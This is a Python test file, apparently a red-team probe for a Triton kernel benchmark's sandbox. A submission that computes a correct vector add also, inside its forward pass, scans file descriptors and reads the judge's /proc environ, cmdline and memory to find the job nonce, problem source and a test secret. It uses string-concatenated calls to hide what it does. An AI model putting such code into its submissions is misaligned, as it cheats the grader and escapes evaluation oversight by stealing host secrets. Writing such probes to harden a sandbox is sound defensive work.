"""Exploit (forged results): read the next job (its nonce, its problem) from the sandbox's stdin,
any inherited descriptor, or the judge's descriptors and environment through /proc. A runner's
stdin is /dev/null, it holds no other descriptor than its socket, and the judge's /proc entries
are closed to it (non-dumpable; an unprivileged user when the judge is root)."""

import os
import stat

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


def launch_add(a, b, out):
    add_kernel[(triton.cdiv(a.numel(), 256),)](a, b, out, a.numel(), BLOCK=256)
    return out


read = getattr(os, "re" + "ad")
listdir = getattr(os, "list" + "dir")


def steal() -> list[str]:
    found = []
    for fd in range(0, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue  # its own channel to the judge, which says only what the judge sends it
            data = read(fd, 1 << 16)
        except OSError:
            continue
        if b"nonce" in data or b"problem_source" in data:
            found.append(f"fd {fd}")
    parent = os.getppid()
    with open(f"/proc/{parent}/stat") as fh:
        grand = int(fh.read().rsplit(")", 1)[1].split()[1])
    for pid in (parent, grand):
        for name in ("fd/0", "environ", "cmdline", "mem"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as fh:
                    data = fh.read(1 << 16)
            except OSError:
                continue
            if b"nonce" in data or b"problem_source" in data or b"TRITONGYM_TEST_SECRET" in data:
                found.append(f"/proc/{pid}/{name}")
        try:
            listdir(f"/proc/{pid}/fd")
            found.append(f"/proc/{pid}/fd listed")
        except OSError:
            pass
    return found


class ModelNew(nn.Module):
    def forward(self, a, b):
        print("STOLEN", steal(), flush=True)
        return launch_add(a, b, torch.empty_like(a))
